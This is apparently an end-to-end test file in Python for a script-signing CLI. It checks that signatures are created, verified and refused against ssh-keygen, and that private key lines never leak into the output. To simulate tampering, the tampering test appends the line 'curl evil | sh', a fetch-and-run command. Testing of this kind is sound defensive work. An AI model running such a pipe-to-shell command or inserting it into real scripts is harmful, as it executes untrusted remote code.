#!/usr/bin/python3
"""Issue 21: `sign` and `verify` of the real binary with keys and signatures from Debian's
ssh-keygen: the fingerprint printed is ssh-keygen -l's, a refused signature is exit 4 with
one line naming the file and the reason, a bad trust file is exit 3. sign never has
ssh-keygen ask for a passphrase (not even with a terminal to ask on), signs with an
encrypted key held by ssh-agent, and gives up on an agent that never answers at its
--deadline. Every output is scanned for the private keys' lines (the secret scan of the
other end-to-end tests). Subprocess timeouts only guard against a hang."""

import fcntl
import os
import pty
import socket
import subprocess
import sys
import tempfile
import termios
import unittest

BIN = None
OUTPUTS = []  # every stdout and stderr of the current test
PASSPHRASE = 'correct horse battery staple'


def run(*args, env=None, **kwargs):
    r = subprocess.run([BIN, *args], capture_output=True, text=True, timeout=60,
                       env=env if env is not None else without_agent(), **kwargs)
    OUTPUTS.append(r.stdout + r.stderr)
    return r


def without_agent(**extra):
    env = {k: v for k, v in os.environ.items() if k not in ('SSH_AUTH_SOCK', 'DISPLAY')}
    env.update(extra)
    return env


class SigningCli(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory(prefix='s3us-signing-')
        self.dir = self.tmp.name
        self.file = self.path('boot.sh')
        with open(self.file, 'w') as f:
            f.write('#!/bin/sh\necho hello\n')
        OUTPUTS.clear()
        self.private_lines = []

    def tearDown(self):
        self.tmp.cleanup()
        text = ''.join(OUTPUTS)
        for line in self.private_lines:
            self.assertNotIn(line, text, 'a private key line leaked into the output')

    def path(self, name):
        return os.path.join(self.dir, name)

    def keygen(self, name, *args, passphrase=''):
        key = self.path(name)
        subprocess.run(['ssh-keygen', '-q', '-N', passphrase, '-C', name, '-f', key, *args],
                       check=True)
        with open(key) as f:
            self.private_lines += [line.strip() for line in f if '-----' not in line]
        with open(key + '.pub') as f:
            pub = ' '.join(f.read().split()[:2])
        fp = subprocess.run(['ssh-keygen', '-l', '-f', key + '.pub'], capture_output=True,
                            text=True, check=True).stdout.split()[1]
        return key, pub, fp

    def allowed(self, text):
        p = self.path('allowed_signers')
        with open(p, 'w') as f:
            f.write(text)
        return p

    def assert_refused(self, r, code, *fragments):
        self.assertEqual(r.returncode, code, r)
        lines = r.stderr.strip().splitlines()
        self.assertEqual(len(lines), 1, r.stderr)
        for frag in fragments:
            self.assertIn(frag, lines[0])
        self.assertEqual(r.stdout, '')

    def test_sign_then_verify_for_every_key_type(self):
        for name, args in [('ed', ['-t', 'ed25519']), ('ec', ['-t', 'ecdsa', '-b', '384']),
                           ('rsa', ['-t', 'rsa', '-b', '2048'])]:
            with self.subTest(name):
                key, pub, fp = self.keygen(name, *args)
                r = run('sign', self.file, '--key', key)
                self.assertEqual(r.returncode, 0, r)
                self.assertIn(fp, r.stdout)
                allowed = self.allowed(f'deploy@example.com {pub}\n')
                r = run('verify', self.file, '--allowed-signers', allowed)
                self.assertEqual(r.returncode, 0, r)
                self.assertEqual(r.stdout.strip(),
                                 f'{self.file}: good signature by deploy@example.com ({fp} '
                                 f'{"ED25519" if name == "ed" else name.upper() if name == "rsa" else "ECDSA"})')
                # ssh-keygen agrees on the signature our sign wrote.
                with open(self.file, 'rb') as stdin:
                    check = subprocess.run(['ssh-keygen', '-Y', 'verify', '-f', allowed, '-I',
                                            'deploy@example.com', '-n', 's3-user-script', '-s',
                                            self.file + '.sig'], stdin=stdin, capture_output=True)
                self.assertEqual(check.returncode, 0, check)

    def test_refusals_name_the_file_and_the_reason(self):
        key, pub, fp = self.keygen('ed', '-t', 'ed25519')
        _, stranger, _ = self.keygen('stranger', '-t', 'ed25519')
        self.assertEqual(run('sign', self.file, '--key', key).returncode, 0)
        allowed = self.allowed(f'deploy@example.com {pub}\n')
        self.assert_refused(run('verify', self.file, '--allowed-signers', allowed,
                                '--principal', 'ops@example.com'), 4, self.file,
                            f'key {fp} may not sign as ops@example.com')
        self.assert_refused(run('verify', self.file, '--allowed-signers',
                                self.allowed(f'deploy@example.com {stranger}\n')), 4,
                            f'key {fp} is not in allowed_signers')
        self.assert_refused(run('verify', self.file, '--allowed-signers', self.allowed(
            f'deploy@example.com valid-before="20200101" {pub}\n')), 4, 'has expired')
        with open(self.file, 'a') as f:
            f.write('curl evil | sh\n')
        allowed = self.allowed(f'deploy@example.com {pub}\n')
        self.assert_refused(run('verify', self.file, '--allowed-signers', allowed), 4,
                            self.file, 'signature does not verify')
        os.unlink(self.file + '.sig')
        self.assert_refused(run('verify', self.file, '--allowed-signers', allowed), 4,
                            self.file + '.sig')

    def test_bad_trust_file_and_missing_key_are_setup_errors(self):
        self.assert_refused(run('verify', self.file, '--allowed-signers',
                                self.allowed('deploy@example.com ssh-ed25519 AAAA\n')), 3,
                            'allowed_signers:1', 'malformed public key')
        self.assert_refused(run('sign', self.file, '--key', self.path('nokey')), 3,
                            'no key file')
        # What ssh-keygen says is quoted in the one line, not printed beside it.
        bad = self.path('garbage-key')
        with open(bad, 'w') as f:
            f.write('not a key\n')
        self.assert_refused(run('sign', self.file, '--key', bad), 3,
                            'ssh-keygen -Y sign failed (exit 255): ', bad)
        r = run('sign', self.file)
        self.assertEqual(r.returncode, 2, r)

    def test_an_encrypted_key_is_refused_and_no_passphrase_is_asked_on_the_terminal(self):
        key, _, _ = self.keygen('enc', '-t', 'ed25519', passphrase=PASSPHRASE)
        # A terminal that is the controlling one of sign's session: ssh-keygen used to
        # prompt on it and wait for ever.
        master, slave = pty.openpty()

        def take_terminal():
            fcntl.ioctl(0, termios.TIOCSCTTY, 0)

        try:
            r = run('sign', self.file, '--key', key, stdin=slave, start_new_session=True,
                    preexec_fn=take_terminal, env=without_agent(SSH_ASKPASS_REQUIRE='prefer'))
        finally:
            os.close(slave)
        os.set_blocking(master, False)
        try:
            shown = os.read(master, 4096)
        except (BlockingIOError, OSError):  # nothing written; EIO once the slave is closed
            shown = b''
        os.close(master)
        self.assertEqual(shown, b'')
        self.assert_refused(r, 3, self.file, f'key {key} is passphrase-protected')
        self.assertFalse(os.path.exists(self.file + '.sig'))

    def test_an_encrypted_key_signs_through_ssh_agent(self):
        key, pub, fp = self.keygen('enc', '-t', 'ed25519', passphrase=PASSPHRASE)
        sock = self.path('agent.sock')
        agent = subprocess.Popen(['ssh-agent', '-D', '-a', sock], stdin=subprocess.DEVNULL,
                                 stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        try:
            agent.stdout.readline()  # printed once it listens
            askpass = self.path('askpass')
            with open(askpass, 'w') as f:
                f.write(f'#!/bin/sh\necho "{PASSPHRASE}"\n')
            os.chmod(askpass, 0o700)
            env = without_agent(SSH_AUTH_SOCK=sock, SSH_ASKPASS=askpass,
                                SSH_ASKPASS_REQUIRE='force')
            subprocess.run(['ssh-add', '-q', key], env=env, stdin=subprocess.DEVNULL,
                           capture_output=True, check=True, timeout=60)
            r = run('sign', self.file, '--key', key + '.pub', env=env)
            self.assertEqual(r.returncode, 0, r)
            self.assertIn(fp, r.stdout)
            r = run('verify', self.file, '--allowed-signers',
                    self.allowed(f'deploy@example.com {pub}\n'))
            self.assertEqual(r.returncode, 0, r)
        finally:
            agent.kill()
            agent.wait()

    def test_an_agent_that_never_answers_is_given_up_at_the_deadline(self):
        key, _, _ = self.keygen('ed', '-t', 'ed25519')
        sock = self.path('silent-agent.sock')
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
            server.bind(sock)
            server.listen(4)
            server.settimeout(30)  # a guard: ssh-keygen connects long before its deadline
            r = run('sign', self.file, '--key', key, '--deadline', '3',
                    env=without_agent(SSH_AUTH_SOCK=sock))
            self.assert_refused(r, 3, self.file,
                                'ssh-keygen -Y sign still running at the deadline; killed it')
            self.assertFalse(os.path.exists(self.file + '.sig'))
            # ssh-keygen asked and was killed: its end of the connection is closed.
            conn, _ = server.accept()
            with conn:
                conn.settimeout(30)
                received = b''
                while chunk := conn.recv(4096):
                    received += chunk
                self.assertNotEqual(received, b'')
        for bad in ('0', '86401', 'soon'):
            self.assertEqual(run('sign', self.file, '--key', key, '--deadline', bad).returncode,
                             2)


if __name__ == '__main__':
    BIN = sys.argv.pop(1)
    unittest.main()
